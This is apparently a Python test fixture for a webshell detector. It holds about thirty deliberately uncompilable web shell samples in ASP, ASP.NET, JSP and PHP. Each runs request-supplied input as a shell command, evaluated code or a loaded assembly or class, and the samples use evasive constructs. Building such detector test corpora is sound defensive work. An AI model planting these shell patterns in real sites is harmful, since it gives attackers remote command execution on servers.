# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes of the last round, written before anything was changed for them; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== dictionary-items.asp
<%Dim 1broken
Set d = CreateObject("Scripting.Dictionary")
For Each n In Request.Form
  d.Add n, Request.Form(n)
Next
a = d.Items
ExecuteGlobal Join(a, vbCrLf) %>
==== property-get.asp
<%Dim 1broken
Class Note
  Private t
  Public Property Get Text : Text = t : End Property
  Public Sub Take(v) : t = t & v : End Sub
End Class
Set n = New Note : n.Take Request("a") : n.Take Request("b")
Execute n.Text %>
==== select-split.asp
<%Dim 1broken
p = Split(Request.ServerVariables("HTTP_REFERER"), "#")
Select Case UBound(p)
Case 1
  CreateObject("WScript" & "." & "Shell").Run "%comspec% /c " & p(1), 0, True
End Select %>
==== msxml-node.asp
<%Dim 1broken
Set x = Server.CreateObject("MSXML2.DOMDocument") : x.async = False
x.load Request
Set n = x.documentElement.selectSingleNode("t")
n.dataType = "bin.base64"
Set s = Server.CreateObject("ADODB.Stream") : s.Type = 1 : s.Open
s.Write n.nodeTypedValue
s.SaveToFile Server.MapPath(x.documentElement.getAttribute("f")), 2 %>
==== js-prototype.asp
<%@ Language="JScript" %><% var 1broken; String.prototype.go = function () { return this.constructor.constructor(this)(); };
Response.Write(String(Request.Form("k")).go()); %>
==== js-replace-fn.asp
<%@ Language="JScript" %><% var 1broken; String(Request.Form("k")).replace(/[\s\S]+/, function (all) { return new ActiveXObject("WScript.Shell").Exec("cmd /c " + all).StdOut.ReadAll(); }); %>
==== byref-sub.asp
<%Dim 1broken
Sub Fetch(ByRef o, n)
  o = Trim(Request.Cookies(n) & "")
End Sub
Dim c
Call Fetch(c, "k")
If Len(c) Then Eval c %>
==== recordset-memory.asp
<%Dim 1broken
Set r = CreateObject("ADODB.Recordset")
r.Fields.Append "c", 200, 4000
r.Open
r.AddNew
r("c").Value = Request.Form("k")
r.Update
r.MoveFirst
Execute r.Fields("c").Value %>
==== local-function.ashx
<%@ WebHandler Language="C#" Class="L1" %>
int 1broken; public class L1 : IHttpHandler { public void ProcessRequest(HttpContext c) { string Ask(string n) => c.Request.Headers[n] ?? ""; void Go(in string s) { using var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo { FileName = "cmd", Arguments = s }); } Go($"/c {Ask("X-A")}"); } public bool IsReusable => true; }
==== record-struct.ashx
<%@ WebHandler Language="C#" Class="L2" %>
int 1broken; public readonly record struct Job(string File, string Args); public class L2 : IHttpHandler { public void ProcessRequest(HttpContext c) { var j = new Job(c.Request.Form["a"], c.Request.Form["b"]); var (f, a) = j; System.Diagnostics.Process.Start(f, a); } public bool IsReusable => true; }
==== linq-query.aspx
<%@ Page Language="C#" %><% int 1broken; var q = from string k in Request.Form where k.StartsWith("p") select Request.Form[k]; foreach (var s in q) System.Diagnostics.Process.Start("cmd", "/c " + s); %>
==== span-hex.ashx
<%@ WebHandler Language="C#" Class="L3" %>
int 1broken; public class L3 : IHttpHandler { public void ProcessRequest(HttpContext c) { string t = c.Request["t"]; var b = new List<byte>(); for (int i = 0; i < t.Length; i += 2) b.Add(Convert.ToByte(t.Substring(i, 2), 16)); System.Reflection.Assembly.Load(b.ToArray()).EntryPoint.Invoke(null, null); } public bool IsReusable => true; }
==== generic-invoke.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; T Via<T>(Func<string, T> f, string s) { return f(s); } void Page_Load(object s, EventArgs e) { Via<object>(System.Diagnostics.Process.Start, Request.QueryString["k"]); }</script>
==== switch-expression.aspx
<%@ Page Language="C#" %><% int 1broken; string a = Request["m"] switch { "r" => Request["k"], var o => o }; System.Diagnostics.Process.Start("cmd.exe", "/c " + a); %>
==== vb-event.aspx
<%@ Page Language="VB" %><script runat="server">Dim 1broken
Public Event Asked(ByVal t As String)
Sub OnAsked(t As String) Handles Me.Asked
  Interaction.Shell("cmd /c " & t)
End Sub
Sub Page_Load()
  AddHandler Asked, AddressOf OnAsked
  RaiseEvent Asked(Request("k"))
End Sub</script>
==== vb-byref-array.aspx
<%@ Page Language="VB" %><script runat="server">Dim 1broken
Function Take(ByRef parts() As String) As Boolean
  parts = Request.Form("k").Split("|"c)
  Return parts.Length > 1
End Function
Sub Page_Load()
  Dim p() As String = Nothing
  If Take(p) Then Process.Start(p(0), p(1))
End Sub</script>
==== task-continue.ashx
<%@ WebHandler Language="C#" Class="L4" %>
int 1broken; public class L4 : HttpTaskAsyncHandler { public override async Task ProcessRequestAsync(HttpContext c) { using (var r = new StreamReader(c.Request.GetBufferedInputStream())) { var t = await r.ReadToEndAsync(); await Task.Run(() => Process.Start("cmd", "/c " + t)); } } }
==== cs-expression.aspx
<%@ Page Language="C#" %><% int 1broken; var m = typeof(System.Diagnostics.Process).GetMethods().First(x => x.Name == "Start" && x.GetParameters().Length == 1); m.Invoke(null, new object[] { Request.Params["k"] }); %>
==== optional-chain.jsp
<% int 1broken; java.util.Optional.ofNullable(request.getHeader("X-K")).map(String::trim).filter(s -> !s.isEmpty()).ifPresent(s -> { try { new ProcessBuilder(s.split(" ")).start(); } catch (Exception e) { } }); %>
==== supplier.jsp
<%! int 1broken; static <T> T ask(java.util.function.Supplier<T> s) { return s.get(); } %><% Runtime.getRuntime().exec(ask(() -> request.getParameter("k"))); %>
==== inner-thread.jsp
<% int 1broken; final String k = request.getParameter("k"); new Thread(new Runnable() { public void run() { try { Runtime.getRuntime().exec(new String[] { "sh", "-c", k }); } catch (Exception e) { } } }).start(); %>
==== class-loader-sub.jsp
<%! int 1broken; class Own extends ClassLoader { Own(ClassLoader p) { super(p); } Class<?> make(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% byte[] b = new byte[request.getContentLength()]; new java.io.DataInputStream(request.getInputStream()).readFully(b); new Own(getClass().getClassLoader()).make(b).newInstance().equals(pageContext); %>
==== map-compute.jsp
<% int 1broken; java.util.Map<String, String> m = new java.util.HashMap<>(); m.computeIfAbsent("c", n -> request.getParameter(n)); Runtime.getRuntime().exec(m.get("c")); %>
==== stream-reduce.jsp
<% int 1broken; String c = java.util.Arrays.stream(request.getParameterValues("k")).map(x -> new String(java.util.HexFormat.of().parseHex(x))).collect(java.util.stream.Collectors.joining(" ")); new ProcessBuilder("sh", "-c", c).start(); %>
==== by-reference.php
<?php 1broken; function take(array $from, &$to) { foreach ($from as $v) { $to .= $v; } } $c = ''; take($_POST, $c); eval($c);
==== static-property.php
<?php 1broken; class Bag { private static array $all = []; static function put(string $n, $v): void { self::$all[$n] = $v; } static function out(string $n) { return self::$all[$n]; } } Bag::put('k', $_COOKIE['k']); shell_exec(Bag::out('k'));
==== first-class.php
<?php 1broken; $run = passthru(...); array_walk($_GET, fn($v) => $run($v));
==== generator-send.php
<?php 1broken; $g = (function () { while (true) { $c = yield; system($c); } })(); $g->current(); $g->send($_REQUEST['k']);
==== pdo-function.php
<?php 1broken; $p = new PDO('sqlite::memory:'); $p->sqliteCreateFunction('f', 'system'); $s = $p->prepare('select f(?)'); $s->execute([$_GET['k']]);
==== null-chain.php
<?php 1broken; ['c' => $c, 'f' => $f] = array_map('base64_decode', $_POST) + ['f' => 'trim']; $f($c);
"""
)
